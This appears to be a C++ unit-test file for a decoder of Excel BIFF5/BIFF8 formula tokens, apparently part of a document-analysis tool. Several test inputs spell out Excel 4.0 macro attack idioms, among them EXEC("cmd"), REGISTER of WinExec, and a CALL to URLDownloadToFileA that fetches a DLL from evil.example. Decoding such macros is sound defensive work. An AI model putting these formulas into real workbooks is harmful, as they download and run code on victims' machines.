// The Ptg decoder on hand-built token strings ([MS-XLS] 2.5.198), BIFF8 and BIFF5.
#include "formats/xls/xls_formula.h"

#include <gtest/gtest.h>

#include <random>

#include "formats/xls/biff_test_builder.h"
#include "formats/xls/xls_functions.h"

namespace lg::xls {
namespace {

using testing::cat;
using testing::Ptg;

DecodedFormula decode(const Bytes& rgce, const FormulaContext& fc = {}) {
  std::size_t budget = 1u << 20;
  return decode_formula(rgce, fc, budget);
}

TEST(XlsFunctions, TablesNameTheMacroFunctions) {
  EXPECT_STREQ(ftab_function(110)->name, "EXEC");
  EXPECT_STREQ(ftab_function(149)->name, "REGISTER");
  EXPECT_STREQ(ftab_function(150)->name, "CALL");
  EXPECT_STREQ(ftab_function(111)->name, "CHAR");
  EXPECT_EQ(ftab_function(111)->argc, 1);
  EXPECT_STREQ(ftab_function(54)->name, "HALT");
  EXPECT_STREQ(ftab_function(53)->name, "GOTO");
  EXPECT_EQ(ftab_function(9999), nullptr);
  EXPECT_STREQ(cetab_function(0x0011), "RUN");
  EXPECT_STREQ(cetab_function(0x0060), "FORMULA");
  EXPECT_STREQ(cetab_function(0x0076), "ALERT");
  EXPECT_EQ(cetab_function(0x7000), nullptr);
}

TEST(XlsFormula, ExecWithAString) {
  Ptg p;
  auto f = decode(cat({p.str("calc.exe"), p.funcvar(1, 110)}));
  EXPECT_EQ(f.text, "EXEC(\"calc.exe\")");
  EXPECT_TRUE(f.complete);
}

TEST(XlsFormula, RegisterAndCallKeepTheirArguments) {
  Ptg p;
  Bytes rgce = cat({p.str("urlmon"), p.str("URLDownloadToFileA"), p.str("JJCCJJ"), p.integer(0),
                    p.str("http://evil.example/p.dll"), p.str("c:\\x\\p.dll"), p.integer(0),
                    p.integer(0), p.funcvar(8, 150)});
  EXPECT_EQ(decode(rgce).text,
            "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://evil.example/p.dll\","
            "\"c:\\x\\p.dll\",0,0)");
  EXPECT_EQ(decode(cat({p.str("Kernel32"), p.str("WinExec"), p.funcvar(2, 149)})).text,
            "REGISTER(\"Kernel32\",\"WinExec\")");
}

TEST(XlsFormula, CommandEquivalentsComeFromCetab) {
  Ptg p;
  EXPECT_EQ(decode(cat({p.ref(0, 0, true, true), p.funcvar(1, 0x0011, true)})).text, "RUN(A1)");
  EXPECT_EQ(decode(cat({p.str("=EXEC(\"cmd\")"), p.ref(4, 1), p.funcvar(2, 0x0060, true)})).text,
            "FORMULA(\"=EXEC(\"\"cmd\"\")\",$B$5)");
  EXPECT_EQ(decode(cat({p.str("hi"), p.funcvar(1, 0x0076, true)})).text, "ALERT(\"hi\")");
  EXPECT_EQ(decode(p.funcvar(0, 0x0FFF, true)).text, "CE_4095()");
}

TEST(XlsFormula, FixedArityFunctionsAndInfixOperators) {
  Ptg p;
  EXPECT_EQ(
      decode(cat({p.integer(99), p.func(111), p.integer(97), p.func(111), Ptg::op(0x08)})).text,
      "CHAR(99)&CHAR(97)");
  EXPECT_EQ(decode(cat({p.integer(1), p.integer(2), Ptg::op(0x03), Ptg::op(0x15), p.num(1.5),
                        Ptg::op(0x05)}))
                .text,
            "(1+2)*1.5");
  EXPECT_EQ(decode(cat({p.integer(1), Ptg::op(0x13), p.boolean(true), Ptg::op(0x0E)})).text,
            "-1<>TRUE");
  EXPECT_EQ(decode(cat({p.ref(2, 3), p.funcvar(0, 54), Ptg::op(0x0B)})).text, "$D$3=HALT()");
  EXPECT_EQ(decode(Bytes{0x1C, 0x2A}).text, "#N/A");
}

TEST(XlsFormula, AttrSumAndSpacesAndChooseTable) {
  Ptg p;
  // tAttrSpace, then tAttrSum around a reference.
  Bytes rgce =
      cat({Bytes{0x19, 0x40, 0x00, 0x01}, p.ref(0, 0, true, true), Bytes{0x19, 0x10, 0x00, 0x00}});
  EXPECT_EQ(decode(rgce).text, "SUM(A1)");
  // tAttrChoose with w=1: two jump offsets follow and are skipped.
  rgce = cat({p.integer(1), Bytes{0x19, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00}});
  EXPECT_EQ(decode(rgce).text, "1");
}

TEST(XlsFormula, ReferencesAndSheets) {
  Ptg p;
  FormulaContext fc;
  fc.extern_sheets = {"Macro1", "My Sheet"};
  EXPECT_EQ(decode(p.ref3d(0, 0, 0), fc).text, "Macro1!$A$1");
  EXPECT_EQ(decode(p.ref3d(1, 9, 27), fc).text, "'My Sheet'!$AB$10");
  EXPECT_EQ(decode(p.ref3d(7, 0, 0), fc).text, "#REF!$A$1");
  // PtgRefN in a shared formula: signed offsets.
  EXPECT_EQ(decode(Bytes{0x4C, 0xFF, 0xFF, 0x01, 0xC0}).text, "R[-1]C[1]");
  // PtgArea.
  EXPECT_EQ(decode(Bytes{0x25, 0x00, 0x00, 0x04, 0x00, 0x00, 0xC0, 0x01, 0xC0}).text, "A1:B5");
  // PtgName through the defined-name list (1-based).
  fc.names = {"Payload"};
  EXPECT_EQ(decode(Bytes{0x23, 0x01, 0x00, 0x00, 0x00}, fc).text, "Payload");
  EXPECT_EQ(decode(Bytes{0x23, 0x05, 0x00, 0x00, 0x00}, fc).text, "NAME_5");
}

TEST(XlsFormula, UserDefinedFunctionIsNamedByItsFirstArgument) {
  Ptg p;
  FormulaContext fc;
  fc.names = {"Decode"};
  Bytes rgce = cat({Bytes{0x43, 0x01, 0x00, 0x00, 0x00}, p.str("x"), p.funcvar(2, 0x00FF)});
  EXPECT_EQ(decode(rgce, fc).text, "Decode(\"x\")");
}

TEST(XlsFormula, Biff5Layouts) {
  Ptg p{true};
  FormulaContext fc;
  fc.version = BiffVersion::kBiff5;
  fc.sheets = {"Macro1"};
  EXPECT_EQ(decode(cat({p.str("calc"), p.funcvar(1, 110)}), fc).text, "EXEC(\"calc\")");
  EXPECT_EQ(decode(p.ref(1, 2, true, false), fc).text, "$C2");
  EXPECT_EQ(decode(p.ref3d(0, 0, 0), fc).text, "Macro1!$A$1");
  // BIFF5 strings are in the workbook code page.
  fc.charset = "windows-1251";
  EXPECT_EQ(decode(Bytes{0x17, 0x02, 0xCF, 0xF0}, fc).text, "\"Пр\"");
}

TEST(XlsFormula, Biff8WideStrings) {
  Bytes rgce = {0x17, 0x02, 0x01, 0x5C, 0xD5, 0x00, 0xAE};  // "한글" as UTF-16LE
  EXPECT_EQ(decode(rgce).text, "\"한글\"");
}

TEST(XlsFormula, UnknownTokenEndsWithAMarker) {
  Ptg p;
  auto f = decode(cat({p.integer(1), Bytes{0x18, 0x01, 0x02}}));
  EXPECT_EQ(f.text, "1 [unknown token 0x18]");
  EXPECT_FALSE(f.complete);
}

TEST(XlsFormula, TruncatedAndUnderflowAreMarked) {
  auto f = decode(Bytes{0x17, 0x10, 0x00, 'a', 'b'});
  EXPECT_EQ(f.text, "[truncated]");
  EXPECT_FALSE(f.complete);
  f = decode(Bytes{0x03});
  EXPECT_EQ(f.text, "[stack underflow]");
  f = decode(Bytes{0x1E, 0x01});
  EXPECT_EQ(f.text, "[truncated]");
  Ptg p;
  // A fixed-arity function whose table entry says variable cannot be decoded by PtgFunc.
  f = decode(cat({p.integer(1), p.func(110)}));
  EXPECT_EQ(f.text, "1 [EXEC: argument count unknown]");
}

TEST(XlsFormula, BudgetAndLengthCapsStopDecoding) {
  Ptg p;
  std::size_t budget = 10;
  auto f = decode_formula(cat({p.str("0123456789abcdef"), p.funcvar(1, 110)}), {}, budget);
  EXPECT_FALSE(f.complete);
  EXPECT_NE(f.text.find("[text budget spent]"), std::string::npos);
  // Concatenating a long string with itself many times hits the per-formula cap.
  Bytes rgce = p.str(std::string(200, 'x'));
  for (int i = 0; i < 100; ++i) rgce = cat({rgce, p.str(std::string(200, 'y')), Ptg::op(0x08)});
  f = decode(rgce);
  EXPECT_FALSE(f.complete);
  EXPECT_LE(f.text.size(), kMaxFormulaChars + 40);
}

TEST(XlsFormula, RandomTokensNeverCrash) {
  std::mt19937 rng(7);
  FormulaContext fc;
  fc.names = {"a"};
  fc.extern_sheets = {"s"};
  for (int i = 0; i < 3000; ++i) {
    Bytes b(rng() % 64);
    for (auto& x : b) x = static_cast<std::uint8_t>(rng());
    fc.version = i % 2 ? BiffVersion::kBiff5 : BiffVersion::kBiff8;
    std::size_t budget = 1u << 16;
    (void)decode_formula(b, fc, budget);
  }
}

}  // namespace
}  // namespace lg::xls
